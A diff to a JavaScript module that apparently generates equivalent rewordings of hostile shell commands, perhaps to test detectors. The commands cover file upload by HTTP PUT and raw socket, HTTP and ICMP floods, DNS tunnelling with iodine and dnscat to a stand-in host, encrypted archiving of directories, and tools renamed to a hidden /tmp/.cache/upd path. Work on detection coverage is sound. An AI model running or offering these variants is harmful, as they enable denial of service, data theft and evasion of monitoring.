@@ -80,6 +80,12 @@ export const FORMS = [
       `import urllib.request as u;u.urlopen(u.Request("${url}",data=open("${file === '-' ? '/dev/stdin' : file}","rb").read(),method="PUT"))`,
     ),
   ),
+  form(
+    'httpie',
+    ['http'],
+    ({ file, url }) => ({ text: `http PUT ${url} < ${file}`, argv: ['http', 'PUT', url] }),
+    needsFile,
+  ),
   form('python, socket', ['raw'], ({ file, host, port }) =>
     python(`import socket;s=socket.create_connection(("${host}",${port}));s.sendfile(open("${file}","rb"))`),
   ),
@@ -143,3 +149,48 @@ export const FORMS = [
 function form(name, kinds, write, when = () => true) {
   return { name, write, fits: (transfer) => kinds.includes(transfer.kind) && when(transfer) };
 }
+
+const MANY_REQUESTS = /^wrk .*?(https?:\/\/\S+)$/;
+const PINGS = /^hping3 (?=.*(?:--icmp|-1)).*?(\d+(?:\.\d+){3})(?: \|\| true)?$/;
+const DNS_CLIENT = /^node -e .*dgram/;
+const PACKING = /^zip -r -P x (\S+)\.zip (\S+)$/;
+
+/** What else floods, pings, asks or packs so: `of` knows the command, `write` gives the other one. */
+export const PROGRAMS = [
+  ['ab', MANY_REQUESTS, ([, url]) => `ab -k -t 120 -c 4 ${url}`],
+  ['hey', MANY_REQUESTS, ([, url]) => `hey -z 120s -c 4 -q 5 ${url}`],
+  ['siege', MANY_REQUESTS, ([, url]) => `siege -b -c 4 -t 120S ${url}`],
+  ['h2load', MANY_REQUESTS, ([, url]) => `h2load --h1 -n 2400 -c 4 ${url}`],
+  ['oha', MANY_REQUESTS, ([, url]) => `oha -z 120s -c 4 ${url}`],
+  ['bombardier', MANY_REQUESTS, ([, url]) => `bombardier -c 4 -d 120s ${url}`],
+  ['wrk, other spelling', MANY_REQUESTS, ([, url]) => `wrk --duration 2m --connections 4 --threads 1 ${url}`],
+  ['a copy of wrk', MANY_REQUESTS, ([, url]) => `/tmp/.cache/upd -t4 -c4 -d120s ${url}`],
+  ['ping', PINGS, ([, host]) => `ping -f -q -s 1400 -c 900 ${host}`],
+  ['ping of busybox', PINGS, ([, host]) => `busybox ping -q -s 1400 -c 900 ${host}`],
+  ['fping', PINGS, ([, host]) => `fping -q -b 1400 -c 900 -p 20 ${host}`],
+  ['nping', PINGS, ([, host]) => `nping --icmp --rate 50 -c 900 --data-length 1400 ${host}`],
+  ['hping3, other spelling', PINGS, ([, host]) => `hping3 ${host} --icmp --interval u20000 --count 900`],
+  ['python, raw socket', PINGS, () => 'python3 /tmp/p.py'],
+  ['a copy of hping3', PINGS, ([, host]) => `/tmp/.cache/upd --icmp -i u20000 -c 900 ${host}`],
+  ['python, questions', DNS_CLIENT, () => 'python3 /tmp/q.py'],
+  ['node, questions from a file', DNS_CLIENT, () => 'node /tmp/q.js'],
+  ['iodine', DNS_CLIENT, () => 'iodine -f -r -P x t.example.net'],
+  ['dnscat', DNS_CLIENT, () => 'dnscat --dns domain=t.example.net'],
+  ['dig in a loop', DNS_CLIENT, () => 'dig +short -f /tmp/names'],
+  ['tar', PACKING, ([, target, place]) => `tar cf ${target}.tar ${place}`],
+  ['tar, compressed', PACKING, ([, target, place]) => `tar --create --gzip --file=${target}.tgz ${place}`],
+  ['tar of busybox', PACKING, ([, target, place]) => `busybox tar -czf ${target}.tgz ${place}`],
+  ['7z', PACKING, ([, target, place]) => `7z a -px ${target}.7z ${place}`],
+  [
+    'zip, other spelling',
+    PACKING,
+    ([, target, place]) => `zip --encrypt --recurse-paths ${target}.zip ${place}`,
+  ],
+  [
+    'tar and openssl',
+    PACKING,
+    ([, target, place]) => `tar c ${place} | openssl enc -aes-256-cbc -k x -out ${target}`,
+  ],
+  ['python, zipfile', PACKING, ([, target, place]) => `python3 -m zipfile -c ${target}.zip ${place}`],
+  ['a copy of zip', PACKING, ([, target, place]) => `/tmp/.cache/upd -r -P x ${target}.zip ${place}`],
+].map(([name, of, write]) => ({ name, of, write }));
